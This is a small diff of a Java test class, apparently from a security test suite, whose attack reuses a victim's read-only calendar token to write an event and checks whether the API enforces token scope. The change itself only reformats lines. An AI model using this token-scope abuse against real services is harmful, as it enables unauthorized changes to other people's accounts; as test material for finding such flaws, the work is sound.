@@ -27,8 +27,12 @@ public final class ScopeMissing implements Attack {
 
   @Override
   public AttackResult run(Target target) throws InterruptedException {
-    String reading = target.loot().tokenIssuedTo(Loot.VICTIM, Map.of("scope", "calendars:read events:read"));
-    target.makes("Take the token that Alice gave to a program which shows her calendar.", "token for reading", reading);
+    String reading =
+        target.loot().tokenIssuedTo(Loot.VICTIM, Map.of("scope", "calendars:read events:read"));
+    target.makes(
+        "Take the token that Alice gave to a program which shows her calendar.",
+        "token for reading",
+        reading);
     Draft write = target.with("POST", Events.VICTIMS, "application/json", Events.named(TITLE));
     Hop answer = target.send("Write an event with it.", JwtAttack.withToken(write, reading));
     return target.end(answer.status() == 201, "The program wrote an event into Alice's calendar.");
